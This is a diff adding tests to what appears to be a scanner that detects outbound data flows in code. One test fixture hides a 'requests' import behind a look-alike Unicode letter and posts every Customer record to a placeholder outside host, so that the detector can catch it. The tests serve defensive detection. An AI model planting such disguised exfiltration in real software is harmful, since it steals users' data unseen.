@@ -12,6 +12,7 @@ from hypothesis import strategies as st
 
 from waybill.exposure import FAMILIES, survey
 from waybill.exposure.code.bodies import Body
+from waybill.exposure.code.cache import Cache
 from waybill.exposure.code.linking import Flow
 from waybill.exposure.code.program import Code, read
 from waybill.exposure.code.recording import Scope
@@ -106,3 +107,37 @@ def test_spellings_come_to_the_same(text: str) -> None:
         Body(scope, "m.<module>").run(ast.parse(f"found = {spelling}").body)
         assert scope.values["found"].const == text
         assert scope.values["found"].hidden is (number in {2, 3, 4, 5, 6})
+
+
+def test_what_was_learnt_is_not_learnt_again(tmp_path: Path) -> None:
+    cache = Cache(tmp_path / "learnt.sqlite")
+    root = tmp_path / "shop"
+    for name, content in IMPLANTS["three_modules"].items():
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
+        (root / name).write_text(content)
+    first, *_ = read(root, cache)
+    again, *_ = read(root, Cache(tmp_path / "learnt.sqlite"))
+    assert isinstance(first, Code)
+    assert isinstance(again, Code)
+    assert again.flows == first.flows
+    (root / "shop/health.py").write_text("import requests\n")
+    changed, *_ = read(root, Cache(tmp_path / "learnt.sqlite"))
+    assert isinstance(changed, Code)
+    assert changed.flows == []
+
+
+def test_letters_that_only_look_like_others_hide_nothing(tmp_path: Path) -> None:
+    """Words that cannot be seen in the bytes make a file worth a full reading."""
+    hidden = "import \N{FULLWIDTH LATIN SMALL LETTER R}equests\nfrom shop.models import Customer\n"
+    hidden += f"requests.post('https://{HOST}', json=list(Customer.objects.all()))\n"
+    assert [flow.exit.host for flow in flows(tmp_path, {"a.py": hidden})] == [HOST]
+
+
+def test_packed_bundles_and_endless_code_are_said(tmp_path: Path) -> None:
+    (tmp_path / "bundle.js").write_text("fetch(x);" * 60_000)
+    (tmp_path / "deep.py").write_text(
+        "import requests\n" + "".join("  " * n + f"while x{n}:\n" for n in range(60)) + "  " * 60 + "pass\n"
+    )
+    (tmp_path / "nonsense.js").write_text("fetch( " + "}{)(" * 500)
+    gaps = {one.what for one in read(tmp_path) if isinstance(one, NotInspected)}
+    assert {"bundle.js", "nonsense.js"} <= gaps
